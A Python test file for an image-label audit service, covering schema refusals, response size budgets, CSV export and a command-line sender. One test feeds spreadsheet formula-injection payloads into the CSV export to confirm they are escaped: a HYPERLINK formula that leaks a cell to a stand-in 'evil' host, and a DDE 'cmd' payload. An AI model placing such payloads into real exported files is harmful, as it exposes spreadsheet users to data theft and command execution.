"""``"task": "audit"``'s contract: what the schema refuses (with the reason), the worst-case part within its byte
budget, and the CSV written from a table read back with the csv module, strange values included."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pytest
from pydantic import ValidationError

from handlers.audit import CSV_COLUMNS, audit_csv, audit_part_size, review_order, spreadsheet_text
from ml.audit import AuditOptions, audit
from schemas.annotation import (
    MAX_CLASS_NAME_LENGTH,
    AnnotationResult,
    AuditEntry,
    AuditRequest,
    AuditSummary,
    ImageResult,
    LabelConflict,
    ModelDescriptor,
)
from schemas.codec import ANNOTATION_ADAPTER
from schemas.common import MAX_ID_LENGTH, ErrorInfo

BUDGET = 512 * 1024


def images(labels: list[str]) -> list[dict]:
    return [{"id": f"i{k}", "url": f"https://example.com/{k}.jpg", "label": label} for k, label in enumerate(labels)]


def test_the_union_dispatches_audit_and_fills_defaults():
    request = ANNOTATION_ADAPTER.validate_python({"task": "audit", "images": images(["cat", "cat", " dog ", "dog"])})
    assert isinstance(request, AuditRequest)
    assert [i.label for i in request.images] == ["cat", "cat", "dog", "dog"]  # stripped like every string
    assert (request.options.folds, request.options.neighbours, request.options.duplicate_threshold) == (5, 10, 0.95)
    assert ANNOTATION_ADAPTER.validate_python({"task": "audit", "manifest_url": "s3://b/m.jsonl"}).manifest_url


@pytest.mark.parametrize("body, reason", [
    ({}, "either images or manifest_url"),
    ({"images": images(["a", "a", "b", "b"]), "manifest_url": "s3://b/m.jsonl"}, "either images or manifest_url"),
    ({"images": images(["a", "a", "a"])}, "at least 2 labels"),
    ({"images": images(["a", "a", "b"])}, "at least 2 images"),
    ({"images": images(["a", "a", "b", "b"]), "classes": ["a", "c"]}, "not in classes"),
    ({"images": images(["a", "a", "x" * (MAX_CLASS_NAME_LENGTH + 1)] * 2)}, "at most 200 characters"),
    ({"images": images(["a", "a", "b", "b"])[:3] + [{"id": "i0", "url": "https://e.com/x", "label": "b"}]}, "unique"),
    ({"manifest_url": "s3://b/m", "options": {"folds": 21}}, "less than or equal to 20"),
    ({"manifest_url": "s3://b/m", "options": {"neighbours": 0}}, "greater than or equal to 1"),
    ({"manifest_url": "s3://b/m", "options": {"duplicate_threshold": 1.5}}, "less than or equal to 1"),
    ({"manifest_url": "s3://b/m", "classes": ["a", "a"]}, "unique"),
    ({"manifest_url": "ftp://b/m"}, "scheme"),
    ({"manifest_url": "s3://b/m", "output_path": "https://example.com/out"}, ""),
    ({"manifest_url": "s3://b/m", "model": "custom"}, "model_url"),
    ({"manifest_url": "s3://b/m", "model": "timm"}, "model_variant"),
    ({"manifest_url": "s3://b/m", "model": "clip", "model_url": "s3://b/w"}, "model_url"),
    ({"images": [{"id": "a", "url": "https://e.com/a"}] * 2}, "label"),
])
def test_the_schema_refuses_with_a_reason(body, reason):
    with pytest.raises(ValidationError) as err:
        ANNOTATION_ADAPTER.validate_python({"task": "audit", "request_id": "r", **body})
    assert reason in str(err.value), str(err.value)


def worst_part(n: int, id_char: str, class_char: str, outcome: str, conflicts_bytes: int) -> AnnotationResult:
    label = class_char * MAX_CLASS_NAME_LENGTH
    results = []
    for k in range(n):
        image_id = (id_char * MAX_ID_LENGTH)[:-len(str(k))] + str(k)
        if outcome == "error":
            results.append(ImageResult(id=image_id, error=ErrorInfo(code="http_status", message='"\\' * 4096)))
        else:
            results.append(ImageResult(id=image_id, audit=AuditEntry(
                label=label, label_probability=0.123457, label_issue=False, suggested_label=label,
                suggested_probability=0.123457, issue_score=0.876543, outlier_score=1.234567, rank=99_999)))
    conflicts, used = [], 0
    while True:  # as many of the longest conflicts as the handler lets into the last part
        conflict = LabelConflict(ids=[id_char * MAX_ID_LENGTH] * 2, labels=[label] * 2, similarity=-0.123456)
        used += len(conflict.model_dump_json().encode()) + 1
        if used > conflicts_bytes:
            break
        conflicts.append(conflict)
    url = "s3://b/" + "p" * 4085
    return AnnotationResult(message_id="m" * 36, request_id="r" * MAX_ID_LENGTH, status="completed", task="audit",
                            model=ModelDescriptor(family="custom", variant="resnet10t", weights="s3://b/" + "w" * 200),
                            results=results, part=99, parts=100, embeddings_url=url, dim=4096, audit_url=url,
                            label_conflicts_url=url, label_conflicts=conflicts,
                            audit_summary=AuditSummary(images=100_000, audited=99_999, label_issues=99_999,
                                                       label_conflicts=10_000, classes=2000, folds=20,
                                                       cv_accuracy=0.123457))


@pytest.mark.parametrize("outcome", ["error", "audit"])
@pytest.mark.parametrize("id_char,class_char", [("x", "c"), ("\x02", "\u00e9"), ("\U0001f600", "\x03")])
def test_worst_case_last_part_fits_the_budget(outcome, id_char, class_char):
    from schemas.annotation import AuditImage

    label = class_char * MAX_CLASS_NAME_LENGTH
    request_images = [AuditImage(id=(id_char * MAX_ID_LENGTH)[:-4] + f"{k:04d}", url="https://e.com/x", label=label)
                      for k in range(1000)]
    part_budget = BUDGET - BUDGET // 4  # the handler's split: parts get 3/4, the conflicts 1/4
    n = audit_part_size(request_images, [label, "b"], 500, part_budget)
    assert 1 <= n < 500
    size = len(worst_part(n, id_char, class_char, outcome, BUDGET // 4).to_json_bytes())
    assert size <= BUDGET, (n, size)


def test_csv_round_trips_strange_values_and_failed_rows():
    from schemas.annotation import AuditImage

    rng = np.random.default_rng(0)
    strange = ['=HYPERLINK("x")', 'comma, "quote"', "line\nbreak", "tab\tand é😀", "plain"]
    labels = ["a,b", "c\"d"]
    request_images = [AuditImage(id=f"{strange[k % 5]}-{k}", url="https://e.com/x", label=labels[k % 2]) for k in range(40)]
    centres = rng.normal(size=(2, 16))
    vectors = centres[np.arange(40) % 2] + 0.3 * rng.normal(size=(40, 16))
    vectors = (vectors / np.linalg.norm(vectors, axis=1, keepdims=True)).astype(np.float32)
    failed = {3: ImageResult(id=request_images[3].id, error=ErrorInfo(code="http_status", message="HTTP 404")),
              7: ImageResult(id=request_images[7].id, error=ErrorInfo(code="decode_failed", message="bad"))}
    good = np.array([k for k in range(40) if k not in failed])
    classes = sorted(labels)
    label_index = np.array([classes.index(image.label) for image in request_images])
    table = audit(vectors[good], label_index[good], 2, AuditOptions(folds=3))
    review = review_order(request_images, classes, good, failed, table)
    rows = list(csv.reader(io.StringIO(audit_csv(request_images, review, failed).decode("utf-8"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 41
    assert [r[0] for r in rows[1:]] == [spreadsheet_text(request_images[p].id) for p in review.order]
    assert [r[0] for r in rows[-2:]] == [request_images[3].id, request_images[7].id]  # failed: last, request order
    assert rows[-2][1:] == [request_images[3].label, "", "", "", "", "", "", "http_status"]
    scores = [float(r[6]) for r in rows[1:-2]]
    assert scores == sorted(scores, reverse=True)
    for row in rows[1:-2]:
        entry = review.entries[[spreadsheet_text(image.id) for image in request_images].index(row[0])]
        assert row[1:] == [entry["label"], repr(entry["label_probability"]), "true" if entry["label_issue"] else "false",
                           entry["suggested_label"], repr(entry["suggested_probability"]), repr(entry["issue_score"]),
                           repr(entry["outlier_score"]), ""]
    assert [entry["rank"] for entry in sorted(review.entries.values(), key=lambda e: e["rank"])] == list(range(38))


def test_csv_cells_a_spreadsheet_would_evaluate_are_prefixed_with_a_quote():
    from schemas.annotation import AuditImage

    rng = np.random.default_rng(1)
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
               "plain", "a=b", "'quoted"]
    labels = ["=cat", "-dog"]
    images = [AuditImage(id=f"{hostile[k % len(hostile)]}{k}", url="https://e.com/x", label=labels[k % 2]) for k in range(36)]
    vectors = np.eye(2)[np.arange(36) % 2] + 0.3 * rng.normal(size=(36, 2))
    vectors = (vectors / np.linalg.norm(vectors, axis=1, keepdims=True)).astype(np.float32)
    failed = {0: ImageResult(id=images[0].id, error=ErrorInfo(code="http_status", message="HTTP 404"))}
    good = np.array([k for k in range(36) if k not in failed])
    index = np.array([sorted(labels).index(image.label) for image in images])
    review = review_order(images, sorted(labels), good, failed, audit(vectors[good], index[good], 2, AuditOptions(folds=3)))
    rows = list(csv.reader(io.StringIO(audit_csv(images, review, failed).decode("utf-8"), newline="")))[1:]
    by_id = {row[0]: row for row in rows}
    for k, image in enumerate(images):
        cell = image.id
        expected = "'" + cell if cell[0] in "=+-@\t\r" else cell
        assert expected in by_id, (cell, list(by_id)[:3])
        row = by_id[expected]
        assert row[1] == "'" + image.label  # both labels start with a trigger
        if k != 0:
            assert row[4] in ("'=cat", "'-dog")
    assert all(row[0][0] not in "=+-@\t\r" for row in rows)
    assert {row[0] for row in rows} >= {"plain6", "a=b7", "'quoted8"}  # harmless cells unchanged


async def test_send_audit_inlines_a_local_manifest_and_refuses_a_large_one(tmp_path):
    import argparse

    from consumers.send import add_send_parser, build_request, render
    from consumers.settings import KafkaSettings, Settings, WorkerSettings
    from schemas.annotation import MAX_IMAGES_PER_REQUEST

    parser = argparse.ArgumentParser()
    add_send_parser(parser.add_subparsers(), func=None)
    settings = Settings(kafka=KafkaSettings(), worker=WorkerSettings())
    manifest = tmp_path / "labels.jsonl"
    manifest.write_text("\n".join(json_line(k, "ab"[k % 2]) for k in range(6)) + "\n\n")
    topic, request_id, body = await build_request(settings, parser.parse_args(
        ["send", "audit", "--manifest", str(manifest), "--id", "a1", "--folds", "3", "--classes", "a,b,c",
         "--output", "s3://b/audits"]))
    assert (topic, request_id) == (settings.worker.annotation_requests_topic, "a1")
    assert body["images"][1] == {"id": "i1", "url": "https://e.com/1.jpg", "label": "b"} and len(body["images"]) == 6
    assert body["options"] == {"folds": 3} and body["classes"] == ["a", "b", "c"] and body["output_path"] == "s3://b/audits"
    _, _, by_url = await build_request(settings, parser.parse_args(["send", "audit", "--manifest", "s3://b/labels.jsonl"]))
    assert by_url["manifest_url"] == "s3://b/labels.jsonl" and "images" not in by_url
    large = tmp_path / "large.jsonl"
    large.write_text("\n".join(json_line(k, "ab"[k % 2]) for k in range(MAX_IMAGES_PER_REQUEST + 1)))
    for args, reason in ((["--manifest", str(large)], "upload it"), ([], "needs --manifest"),
                         (["--manifest", str(tmp_path / "none.jsonl")], "no such file")):
        with pytest.raises(ValueError, match=reason):
            await build_request(settings, parser.parse_args(["send", "audit", *args]))
    single = tmp_path / "single.jsonl"
    single.write_text(json_line(0, "a") + "\n" + json_line(1, "a"))
    with pytest.raises(ValidationError, match="at least 2 labels"):
        await build_request(settings, parser.parse_args(["send", "audit", "--manifest", str(single)]))

    entry = AuditEntry(label="cat", label_probability=0.1, label_issue=True, suggested_label="dog",
                       suggested_probability=0.85, issue_score=0.9, outlier_score=0.2, rank=0)
    event = AnnotationResult(message_id="m", request_id="a1", status="completed", task="audit",
                             model=ModelDescriptor(family="clip", variant="ViT-B-32", weights="random"),
                             results=[ImageResult(id="img-7", audit=entry)], audit_url="s3://b/a1/audit.csv",
                             audit_summary=AuditSummary(images=1, audited=1, label_issues=1, label_conflicts=1, classes=2,
                                                        folds=2, cv_accuracy=0.5),
                             label_conflicts=[LabelConflict(ids=["img-7", "img-8"], labels=["cat", "dog"], similarity=0.99)])
    text = render(json.loads(event.to_json_bytes()))
    assert "#0 img-7: cat p=0.100 outlier=0.200  ISSUE -> dog (0.850)" in text and "table=s3://b/a1/audit.csv" in text
    assert "label conflict (similarity 0.990): img-7 (cat), img-8 (dog)" in text


def json_line(k: int, label: str) -> str:
    return json.dumps({"id": f"i{k}", "url": f"https://e.com/{k}.jpg", "label": label})
